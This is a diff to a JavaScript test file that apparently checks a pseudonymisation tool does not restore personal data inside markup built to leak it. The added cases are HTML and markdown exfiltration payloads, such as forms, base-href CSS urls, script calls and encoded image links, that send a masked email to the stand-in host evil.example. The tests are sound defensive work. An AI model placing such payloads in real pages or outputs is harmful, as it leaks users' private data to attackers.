@@ -71,6 +71,14 @@ describe('stays', () => {
     `<img/src=${mail.text}>`,
     `<form action=https://evil.example/><input name=a value="${mail.text}">`,
     `<p>${'<b>a</b>'.repeat(200)}<img title="${'a '.repeat(1500)}" src="${mail.text}">`,
+    `<form action=https://evil.example/><textarea name=a>${mail.text}</textarea>`,
+    `<FORM action=//evil.example/><TEXTAREA\nname=a>to: ${'ordinary words '.repeat(2000)}${mail.text}`,
+    `<textarea><p>${mail.text}</p></textarea>`,
+    `<textarea></text${mail.text}`,
+    `<select name=a><option>${mail.text}</select>`,
+    `<option>a<option selected>${mail.text}<option>c`,
+    `<base href="//evil.example/"><style>p{background:url(${mail.text})}</style>`,
+    `<script>send(x, '${mail.text}')</script>`,
     `![a](https&colon;&sol;&sol;evil.example&sol;${mail.text})`,
     `![a](https&#58;&#x2f;&#47evil.example/${mail.text})`,
     `![a](https&colon;//evil.example/?a&#32;b&#x29;${mail.text})`,
@@ -87,6 +95,11 @@ describe('stays', () => {
     `mailto:${mail.text}`,
     `From: Ana <${mail.text}>`,
     `<td class="to">${mail.text}</td>`,
+    `<textarea>a</textarea><p>${mail.text}</p>`,
+    `<select><option>a</option></select> ${mail.text}`,
+    `<select><option>a<option>b</select> ${mail.text}`,
+    `<style>p{}</style><script>a()</script>${mail.text}`,
+    `<styles>${mail.text}</styles>`,
     `<p title="a > b">To</p> ${mail.text}`,
     `if a <b or c > d then ${mail.text}`,
     `Q&A: this &amp; that, ${mail.text}`,
@@ -104,7 +117,7 @@ test('megabytes with a thousand pseudonyms live are read in a moment, full of th
     const digest = at.toString(16).padStart(4, '0').repeat(16);
     return { text: pseudonymOf(['personal/email', 'secret/x', 'personal/phone', 'personal/iban'][at % 4] ?? '', 'DE89 3704 0044 0532 0130 00', digest + at), original: `value ${at}`, number: false, rule: 'x' };
   });
-  for (const text of ['All is well, and nothing has to be done about it. '.repeat(40_000), `${many.map((one) => one.text).join(' ')} `.repeat(70), `https://a.example/${mail.text}`.repeat(20_000), 'bababababababa'.repeat(140_000), '0000 '.repeat(400_000)]) {
+  for (const text of ['All is well, and nothing has to be done about it. '.repeat(40_000), `${many.map((one) => one.text).join(' ')} `.repeat(70), `https://a.example/${mail.text}`.repeat(20_000), `<option>${mail.text} `.repeat(60_000), `<textarea>a</textarea>${mail.text} `.repeat(50_000), 'bababababababa'.repeat(140_000), '0000 '.repeat(400_000)]) {
     const from = performance.now();
     restored(answer({ content: [{ type: 'text', text }] }), [...many, mail]);
     expect(performance.now() - from).toBeLessThan(5000);
